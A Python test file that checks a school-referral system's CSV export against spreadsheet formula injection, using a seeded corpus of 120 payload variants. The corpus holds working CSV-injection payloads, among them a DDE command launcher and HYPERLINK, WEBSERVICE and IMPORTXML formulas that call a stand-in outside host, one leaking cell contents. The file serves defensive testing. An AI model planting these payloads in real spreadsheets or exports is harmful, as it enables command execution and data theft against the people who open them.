"""Nothing that people wrote is a formula in a table, however a spreadsheet takes it apart."""

import csv
import io
import random
from itertools import product

import pytest

from kernel.files.tables import as_csv, harmless
from kernel.scope import acting_as
from referrals.exporting.sections import sections_of
from tests.support.exports import made, tables_of, taken
from tests.support.world import World

pytestmark = pytest.mark.corpus
SEED, ITEMS = 20260, 120
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\u200b",
    "\ufeff",
    '"',
    "'",
    '""',
    "a;",
    "a,",
    'a";',
)
BODIES = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://ailleurs.exemple/?"&A1,"Voir")',
    "1+1",
    "SUM(A1:A9)",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("https://ailleurs.exemple")',
    'IMPORTXML(CONCAT("https://ailleurs.exemple"),"//a")',
)
FORMULA = tuple(STARTS)


def corpus() -> list[str]:
    """The items: each begins a formula somewhere that a spreadsheet may take for a beginning."""
    pick = random.Random(SEED)
    every = [f"{before}{start}{body}" for before, start, body in product(BEFORE, STARTS, BODIES)]
    return pick.sample(every, ITEMS)


def cells(content: bytes, separator: str) -> list[str]:
    """The cells that a program finds that believes in this separator."""
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]


def naive_cells(content: bytes) -> list[str]:
    """The cells of a program that knows nothing of quotes."""
    text = content.decode("utf-8-sig")
    for separator in ",\t\n\r|":
        text = text.replace(separator, ";")
    return text.split(";")


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would compute it, with what it strips before it looks."""
    return cell.strip(' \t\r\n"\u00a0\u200b\ufeff').startswith(FORMULA)


def test_120_formulas_are_text_with_every_separator(items):
    formulas = corpus()
    items("C1", len(formulas))
    assert len(formulas) == len(set(formulas)) == ITEMS
    live = [item for item in formulas if any(map(is_formula, naive_cells(item.encode())))]
    assert len(live) > ITEMS * 3 / 4, "an item that was never a formula proves nothing"
    for item in formulas:
        content = as_csv(["Texte", "Autre"], [[item, f"suite {item}"], ["fin", item]])
        for separator in ";,\t":
            found = [cell for cell in cells(content, separator) if is_formula(cell)]
            assert not found, f"{item!r} with {separator!r} gives {found}"
        found = [cell for cell in naive_cells(content) if is_formula(cell)]
        assert not found, f"{item!r} without quotes gives {found}"
        assert cells(content, ";")[-2:-1] == ["fin"], f"{item!r} breaks out of its cell"


def test_plain_words_stay_as_they_are():
    for words in ("Élève de 5e, très inquiet", "14 h 30 (cour)", "Ça va ? Non...", "a@b.exemple"):
        assert harmless(words) == words


def test_what_a_school_wrote_is_text_in_its_export(world: World):
    items = [item for item in corpus() if "\x00" not in item][:6]
    case_id = world.activated(mark=" ".join(items))
    for table in tables_of(
        taken(world.coordinator, made(world.coordinator, case_id, "csv"))
    ).values():
        assert not [cell for row in table for cell in row if is_formula(cell)]


def test_a_case_without_parts_has_its_header_alone(world: World):
    case_id = world.activated()
    with acting_as(world.coordinator.viewer):
        assert [section.code for section in sections_of({"reference": str(case_id)})] == ["dossier"]
